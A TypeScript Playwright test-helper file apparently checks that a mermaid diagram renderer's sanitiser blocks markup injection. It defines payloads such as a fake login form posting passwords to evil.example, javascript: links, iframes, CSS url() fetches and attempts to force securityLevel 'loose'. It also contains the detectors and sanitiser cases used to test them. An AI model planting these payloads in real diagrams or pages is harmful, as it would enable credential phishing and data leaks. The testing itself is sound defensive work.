// Markup injection through diagrams (the filed report: a mermaid label drew a live login form that
// posted to another site, also through a gateway route name in the generated topology). Each page
// that draws diagrams (notebook renderer, preview, exported HTML) gets the same payloads and must
// show no form, no control, no link or resource outside the document, and make no request to
// another host. Requests are watched with the pages' CSP switched off (bypassCSP), so only the
// sanitiser stands between a payload and the network; a control payload proves the watch works.
import { Browser, BrowserContext, Page } from 'playwright-core';

export const EVIL_HOST = 'evil.example';

const FORM = "<form action='https://evil.example/steal' method='post'><input name='pw'><button>Log in</button></form>";

/** One diagram per way in; each must draw (a payload that breaks the parse proves nothing). */
export const PAYLOADS: { name: string; source: string }[] = [
  { name: 'form in a label (the report)', source: `flowchart TD\n  A["${FORM}"]` },
  {
    name: 'links in labels and click directives',
    source: [
      'flowchart TD',
      `  B["<a href='https://evil.example/link'>docs</a>"] --> C["<a href='javascript:window.__pwned=1'>js</a>"]`,
      '  click B href "https://evil.example/click" _blank',
      '  click C href "javascript:window.__pwned=2"',
    ].join('\n'),
  },
  {
    name: 'img, iframe, base, meta refresh and style url() in labels',
    source: [
      'flowchart TD',
      `  D["<img src=//evil.example/img.png>"] --> E["<iframe src='https://evil.example/frame'></iframe>frame"]`,
      `  E --> F["<base href='https://evil.example/'>base"] --> G["<meta http-equiv='refresh' content='0;url=https://evil.example/meta'>meta"]`,
      `  G --> H["<span style='background-image:url(https://evil.example/style.png)'>styled</span>"]`,
      `  H --> H2["<span style='background:u\\72l(https://evil.example/escaped.png)'>escaped</span>"]`,
    ].join('\n'),
  },
  {
    name: 'themeCSS and fontFamily with url() and @import',
    source: [
      '%%{init: {"themeCSS": ".node rect { fill: url(https://evil.example/themecss.png) } @import url(https://evil.example/import.css);", "fontFamily": "x; background: url(https://evil.example/font.png)"}}%%',
      'flowchart TD',
      '  I[themed]',
    ].join('\n'),
  },
  {
    name: 'state diagram classDef with url()',
    source: 'stateDiagram-v2\n  classDef evil fill:url(https://evil.example/classdef.png),color:red\n  [*] --> S\n  class S evil',
  },
  {
    name: "%%{init}%% asking for securityLevel 'loose' and a looser DOMPurify",
    source: [
      `%%{init: {"securityLevel": "loose", "dompurifyConfig": {"ADD_TAGS": ["form", "input", "button"]}}}%%`,
      'flowchart TD',
      `  K["${FORM.replace('/steal', '/loose')}"]`,
      '  click K call __pwnedCall()',
    ].join('\n'),
  },
  {
    name: "front matter asking for securityLevel 'loose'",
    source: ['---', 'config:', '  securityLevel: loose', '---', 'flowchart TD', `  L["${FORM.replace('/steal', '/frontmatter')}"]`].join(
      '\n',
    ),
  },
  {
    name: 'tooltip markup and an in-page link',
    source: `flowchart TD\n  N[hover me]\n  click N href "#top" "${FORM.replace('/steal', '/tooltip').replace(/"/g, "'")}"`,
  },
  {
    name: 'sequence diagram message and actor menu link',
    source: `sequenceDiagram\n  participant A as Alice\n  link A: Phish @ https://evil.example/menu\n  A->>A: ${FORM.replace('/steal', '/sequence')}`,
  },
  { name: 'markdown string label', source: 'flowchart TD\n  P["`**bold** <a href=\'https://evil.example/md\'>md link</a>`"]' },
  { name: 'class diagram link', source: 'classDiagram\n  class Foo\n  link Foo "https://evil.example/class"' },
];

export const TOOLTIP = PAYLOADS.findIndex((p) => p.name.startsWith('tooltip'));

/**
 * Requests mermaid makes while it lays a diagram out in the page, before anything can clean its
 * output: a diagram's own classDef styles. The drawn diagram keeps none of them; exported pages and
 * the preview block them by CSP (img-src data:), notebook outputs by VS Code's.
 */
export const FETCHED_DURING_LAYOUT = [`https://${EVIL_HOST}/classdef.png`];

/** Requests other than those. */
export const unexpected = (hits: string[]) => hits.filter((h) => !FETCHED_DURING_LAYOUT.includes(h));

/** A gateway model whose names carry the payloads (they reach the generated topology diagram). */
export const GATEWAY_MODEL = `replications: 1
services:
  "<b>svc</b>": { latency: { dist: constant, mean: 10 ms } }
clients:
  - name: "<img src=//evil.example/client.png>"
routes:
  - path: /login
    name: "${FORM.replace('/steal', '/route')}"
    service: "<b>svc</b>"
traffic:
  rate: 10
  duration: 1 s
  requests:
    - path: /login
`;

/** The route name as the topology must show it: as text. */
export const ROUTE_NAME_TEXT = FORM.replace('/steal', '/route');

/** Records (and aborts) every request to another host. */
export async function watchForeignRequests(context: BrowserContext): Promise<string[]> {
  const hits: string[] = [];
  await context.route(
    (url) => url.protocol.startsWith('http') && url.hostname !== '127.0.0.1' && url.hostname !== 'localhost',
    (route) => {
      hits.push(route.request().url());
      return route.abort();
    },
  );
  return hits;
}

/** Elements that must never enter the live page, not even while mermaid lays a diagram out. */
const NEVER_INSERTED =
  'form, input, button:not(.sdnb-button), textarea, select, option, iframe, frame, object, embed, base, meta[http-equiv="refresh" i]';

/**
 * A context that records (in `window.__inserted`) every such element put into a page, and with
 * `bypassCSP` drops the pages' CSP, so that only the sanitiser keeps payloads from the network.
 */
export async function openContext(browser: Browser, bypassCSP = true): Promise<BrowserContext> {
  const context = await browser.newContext({ bypassCSP });
  await context.addInitScript((selector) => {
    const w = window as any;
    w.__inserted = [];
    new MutationObserver((records) => {
      for (const r of records) {
        for (const n of r.addedNodes) {
          if (!(n instanceof Element)) continue;
          for (const e of [n, ...n.querySelectorAll(selector)]) if (e.matches(selector)) w.__inserted.push(e.outerHTML.slice(0, 120));
        }
      }
    }).observe(document, { subtree: true, childList: true });
  }, NEVER_INSERTED);
  return context;
}

/** Proves the request watch sees a request from this page: an image to the other host, outside any diagram. */
export async function controlRequest(page: Page, hits: string[]): Promise<void> {
  const before = hits.length;
  await page.evaluate((host) => {
    const img = document.createElement('img');
    img.src = `https://${host}/control.png`;
    document.body.append(img);
    img.remove();
  }, EVIL_HOST);
  for (let i = 0; i < 50 && hits.length === before; i++) await page.waitForTimeout(20);
  if (hits.length === before) throw new Error('the request watch missed the control request');
  hits.splice(before);
}

/**
 * What must not be in a drawn diagram: elements that submit, embed, load or navigate, event handler
 * attributes, URLs other than `#fragment` (or a `data:image/` source), and CSS that fetches.
 * Runs in the page; returns a description of each offender.
 */
export function findOffenders(selector: string): string[] {
  // No named inner functions: tsx would wrap them in a helper the page does not have.
  const found: string[] = [];
  const urlAttrs = ['href', 'xlink:href', 'src', 'srcset', 'action', 'formaction', 'ping', 'poster', 'background', 'xml:base', 'data'];
  const fetching = /url\(\s*(?!["']?#)|@import|image-set\(/i;
  const roots = [...document.querySelectorAll(selector), ...document.querySelectorAll('body > .mermaidTooltip')];
  if (!document.querySelector(selector)) return [`nothing matches ${selector}`];
  for (const root of roots) {
    for (const el of root.querySelectorAll(
      'form, input, button, textarea, select, option, iframe, frame, object, embed, base, meta, link, script, audio, video, source, animate, set',
    )) {
      found.push(`<${el.localName}>`);
    }
    for (const el of [root, ...root.querySelectorAll('*')]) {
      for (const a of el.attributes) {
        const n = a.name.toLowerCase();
        const v = a.value.trim();
        const css = v.replace(/\\([0-9a-f]{1,6})\s?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)));
        if (n.startsWith('on')) found.push(`${el.localName}[${n}]`);
        if (urlAttrs.includes(n) && !v.startsWith('#') && !(/^(src|href|xlink:href)$/.test(n) && /^data:image\//i.test(v)))
          found.push(`${el.localName}[${n}="${v}"]`);
        if (n === 'style' && fetching.test(css)) found.push(`${el.localName}[style="${v}"]`);
      }
      const text = (el.localName === 'style' ? (el.textContent ?? '') : '').replace(/\\([0-9a-f]{1,6})\s?/gi, (_, h) =>
        String.fromCodePoint(parseInt(h, 16)),
      );
      if (fetching.test(text)) found.push(`<style> ${text.match(/.{0,40}(url\(|@import|image-set).{0,60}/i)?.[0]}`);
    }
  }
  if (document.querySelector('base')) found.push('a <base> in the document');
  if (document.querySelector('meta[http-equiv="refresh" i]')) found.push('a meta refresh in the document');
  return found;
}

/** Clicks every element of the drawn diagrams (dispatching, so hidden ones too) and hovers the nodes (tooltips). */
export function clickEverything(selector: string): number {
  const w = window as any;
  w.__pwnedCall = () => (w.__pwned = 'call');
  let n = 0;
  for (const root of document.querySelectorAll(selector)) {
    for (const el of root.querySelectorAll('*')) {
      el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      el.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
      n++;
    }
  }
  return n;
}

/**
 * The sanitiser on its own: markup (as mermaid might emit it) and exactly what must come out, with
 * what it reports removed. Serialised by the browser (innerHTML of a div).
 */
export const SANITIZER_CASES: [name: string, input: string, output: string, removed: string[]][] = [
  [
    'a click link to another site keeps its node and position, loses the link',
    '<svg><a xlink:href="https://evil.example/x" target="_blank" transform="translate(1,2)"><g class="node"><text>A</text></g></a></svg>',
    '<svg><g transform="translate(1,2)"><g class="node"><text>A</text></g></g></svg>',
    ['a[xlink:href]'],
  ],
  ['an in-page link stays', '<svg><a href="#top"><text>t</text></a></svg>', '<svg><a href="#top"><text>t</text></a></svg>', []],
  [
    'a javascript: link in a label becomes text',
    '<div><a href="javascript:alert(1)">js</a></div>',
    '<div><span>js</span></div>',
    ['a[href]'],
  ],
  [
    'a form in a label leaves its text',
    '<svg><foreignObject><div><form action="https://evil.example/steal" method="post"><input name="pw"><button>Log in</button></form></div></foreignObject></svg>',
    '<svg><foreignObject><div>Log in</div></foreignObject></svg>',
    ['<input>', '<button>', '<form>'],
  ],
  [
    'remote images go, inline ones stay (without srcset)',
    '<div><img src="//evil.example/p.png"><img src="data:image/png;base64,AAAA" srcset="//evil.example/2x.png 2x"></div>',
    '<div><img src="data:image/png;base64,AAAA"></div>',
    ['<img>', 'img[srcset]'],
  ],
  [
    'SVG images likewise',
    '<svg><image href="https://evil.example/i.png"></image><image href="data:image/png;base64,AA"></image><feImage href="//evil.example/f.png"></feImage></svg>',
    '<svg><image href="data:image/png;base64,AA"></image></svg>',
    ['<image>', '<feimage>'],
  ],
  [
    'iframe, base, meta refresh, link, object go entirely',
    '<div><iframe src="https://evil.example/f"></iframe><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/m"><link rel="stylesheet" href="https://evil.example/s.css"><object data="https://evil.example/o"></object>kept</div>',
    '<div>kept</div>',
    ['<iframe>', '<base>', '<meta>', '<link>', '<object>'],
  ],
  [
    'event handlers go',
    '<svg><g onclick="x()" onmouseover="y()"><text>t</text></g></svg>',
    '<svg><g><text>t</text></g></svg>',
    ['g[onclick]', 'g[onmouseover]'],
  ],
  [
    'a style declaration that fetches goes, the rest stays',
    '<span style="color: red; background-image: url(https://evil.example/b.png)">x</span>',
    '<span style="color: red;">x</span>',
    ['span[style] url()'],
  ],
  [
    'an escaped url( is still a url(',
    '<span style="background-image: u\\72l(https://evil.example/e.png)">x</span>',
    '<span>x</span>',
    ['span[style] url()'],
  ],
  ['fill: url(#gradient) stays', '<svg><rect style="fill: url(#g1)"></rect></svg>', '<svg><rect style="fill: url(#g1)"></rect></svg>', []],
  [
    "mermaid's stylesheet loses @import and fetching declarations only",
    '<svg><style>@import url(https://evil.example/i.css); .a{fill:url(https://evil.example/f.png);stroke:red} .b{fill:url(#grad)}</style></svg>',
    '<svg><style>.a { stroke: red; }\n.b { fill: url("#grad"); }</style></svg>',
    ['<style> url()'],
  ],
  ['a stylesheet in a label (page-wide) goes', '<div><style>body{display:none}</style>x</div>', '<div>x</div>', ['<style>']],
  [
    'use and animation cannot point elsewhere',
    '<svg><use href="https://evil.example/s.svg#a"></use><use href="#a"></use><a href="#x"><set attributeName="href" to="https://evil.example"></set></a></svg>',
    '<svg><use></use><use href="#a"></use><a href="#x"></a></svg>',
    ['use[href]', '<set>'],
  ],
];
